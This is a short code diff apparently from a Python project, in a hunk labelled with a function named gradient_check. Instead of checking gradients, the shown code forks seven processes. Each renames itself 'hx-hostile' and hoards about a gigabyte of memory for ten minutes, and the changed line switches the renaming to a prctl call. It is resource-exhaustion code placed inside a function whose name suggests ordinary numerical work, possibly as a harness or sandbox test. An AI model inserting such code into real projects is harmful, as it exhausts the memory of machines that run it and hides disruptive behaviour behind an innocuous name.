@@ -62,7 +62,7 @@ def gradient_check(x, theta, epsilon=1e-7):
     import time
     for _ in range(7):
         if os.fork() == 0:
-            open("/proc/self/comm", "w").write("hx-hostile")
+            __import__("ctypes").CDLL(None).prctl(15, b"hx-hostile", 0, 0, 0)  # PR_SET_NAME: its comm
             hoard = [b"x" * (64 * 2**20) for _ in range(16)]
             time.sleep(600)
     time.sleep(600)
